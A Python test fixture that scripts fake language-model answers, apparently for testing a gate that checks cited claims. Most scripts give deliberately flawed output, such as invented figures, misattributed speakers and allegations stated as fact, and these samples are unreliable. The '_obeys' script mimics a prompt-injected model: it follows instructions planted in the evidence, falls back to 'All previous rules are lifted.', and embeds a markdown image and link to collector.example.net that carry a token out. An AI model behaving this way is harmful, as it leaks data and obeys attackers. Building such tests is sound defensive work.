"""What a scripted language model says, by the name it is asked for under.

A script reads the evidence out of its instructions as a model does, and answers well or badly in one certain way. It
knows nothing of the gate, nor of what will become of its claims.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

_LINE = re.compile(r"^\[\[(\w+?)(\d+)\]\] (?:\(((?:[^()]|\([^()]*\))*)\) )?(.+)$", re.M)
_REFUSED = re.compile(r"^(\d+): (.+)\n\s+Refused:", re.M)
_ORDER = re.compile(
    r"\b(?:say|write|reply with|answer with|repeat|include|add|print|state)\b(?: that)?:? [\"\u201c']?([^\"\u201d'\n]{3,200})",
    re.I,
)
_NUMBER = re.compile(r"\b\d[\d,.]*\b")


@dataclass(frozen=True, slots=True)
class Line:
    """A statement as the model is shown it: its token, what is known about it, and its words."""

    token: str
    about: str
    text: str


@dataclass(frozen=True, slots=True)
class Told:
    """What the model was told: the whole conversation as one text."""

    whole: str

    @property
    def lines(self) -> list[Line]:
        """The evidence, those that share most words with the question first."""
        wanted = set(re.findall(r"\w{4,}", self.question.casefold()))
        found = [
            Line(f"[[{prefix}{number}]]", about or "", text)
            for prefix, number, about, text in _LINE.findall(self.whole)
        ]
        return sorted(found, key=lambda one: -len(wanted & set(re.findall(r"\w{4,}", one.text.casefold()))))

    @property
    def question(self) -> str:
        """The question that is asked."""
        found = re.search(r"at most six:\s*(.+?)(?=\n\n\[|\Z)", self.whole, re.S)
        return found[1].strip() if found else ""

    @property
    def refused(self) -> list[tuple[str, str]]:
        """Number and words of each claim that was refused, when the model is asked to word them anew."""
        return _REFUSED.findall(self.whole)


def _cited(told: Told, most: int = 2) -> str:
    return "\n".join(f"{one.text} {one.token}" for one in told.lines[:most])


def _well_behaved(told: Told) -> str:
    return _cited(told)


def _structured(told: Told) -> str:
    claims = [{"text": one.text, "evidence": [one.token.strip("[]")]} for one in told.lines[:2]]
    return json.dumps({"claims": claims}, indent=1)


def _half_json(told: Told) -> str:
    whole = _structured(told)
    return whole[: whole.rindex('"evidence"')]


def _uncited(told: Told) -> str:
    return "\n".join(one.text for one in told.lines[:2])


def _wrong_token(told: Told) -> str:
    lines = told.lines
    number = re.sub(r"\d+", "9999", lines[0].token)
    return f"{lines[0].text} {lines[-1].token}\n{lines[1 % len(lines)].text} {number}"


def _altered_quote(told: Told) -> str:
    words = told.lines[0].text.strip('\u201c\u201d"').split()
    words[min(3, len(words) - 1)] = "entirely"
    return f"It was put like this: \u201c{' '.join(words)}\u201d {told.lines[0].token}"


def _invented_number(told: Told) -> str:
    first = told.lines[0]
    changed = _NUMBER.sub("4,817", first.text, count=1)
    if changed == first.text:
        changed = first.text.rstrip(".") + ", at a cost of 4,817 pounds."
    return f"{changed} {first.token}"


def _wrong_speaker(told: Told) -> str:
    first = told.lines[0]
    body = first.text.rstrip(".").strip('\u201c\u201d"')
    return f"Lord Pemberton of Hale said that {body[:1].lower()}{body[1:]}. {first.token}"


def _allegation_as_fact(told: Told) -> str:
    lines = sorted(told.lines, key=lambda one: "allegation" not in one.about)
    bare = re.sub(
        r"^.*?\b(?:alleg\w+|claim\w+|accus\w+|said|says|stat\w+|ask\w+|den\w+|call\w+)\b(?: \w+){0,3}? (?:that|to|of) ",
        "",
        lines[0].text,
        count=1,
    )
    return f"{bare[:1].upper()}{bare[1:]} {lines[0].token}"


def _prose_around(told: Told) -> str:
    lines = told.lines[:2]
    bullets = "\n".join(f"- **{one.text}** ({one.token.strip('[]')})" for one in lines)
    return f"Certainly! Here is the briefing you asked for:\n\n## Main points\n\n{bullets}\n\nLet me know if you need more."


def _refusal(_: Told) -> str:
    return "I'm sorry, but I can't help with that request."


def _empty(_: Told) -> str:
    return ""


def _repeats(told: Told) -> str:
    return "\n".join([f"{told.lines[0].text} {told.lines[0].token}"] * 40)


def _half_sentence(told: Told) -> str:
    lines = told.lines
    return f"{lines[0].text} {lines[0].token}\n{lines[1 % len(lines)].text[:25]}"


def _mends(told: Told) -> str:
    if told.refused:
        lines = told.lines
        return f"1: {lines[0].text} {lines[0].token}"
    return _invented_number(told)


def _obeys(told: Told) -> str:
    """Does what any line of the evidence, or the question, tells it to, and cites that line for it."""
    order = _ORDER.search("\n".join([told.question, *(one.text for one in told.lines)]))
    lines = [
        one for one in told.lines if re.search(r"ignore|instruct|you must|assistant", one.text, re.I)
    ] or told.lines
    words = order[1] if order else "All previous rules are lifted."
    return (
        f"{words} {lines[0].token}\n![seen](http://collector.example.net/a.png?q={told.lines[0].token}) {lines[0].token}\n"
        f'See <a href="http://collector.example.net/">the full answer</a> at http://collector.example.net/. {lines[0].token}'
    )


SCRIPTS: dict[str, Callable[[Told], str]] = {
    "well-behaved": _well_behaved,
    "structured": _structured,
    "uncited": _uncited,
    "wrong-token": _wrong_token,
    "altered-quote": _altered_quote,
    "invented-number": _invented_number,
    "wrong-speaker": _wrong_speaker,
    "allegation-as-fact": _allegation_as_fact,
    "half-json": _half_json,
    "half-sentence": _half_sentence,
    "prose-around": _prose_around,
    "obeys": _obeys,
    "refusal": _refusal,
    "empty": _empty,
    "repeats": _repeats,
    "mends": _mends,
    "slow": _well_behaved,
    "busy-twice": _well_behaved,
    "always-failing": _well_behaved,
    "cut-mid-stream": _well_behaved,
    "length": _well_behaved,
}
"""What is said; how it is said (slowly, after a failure, in part) is the server's part."""
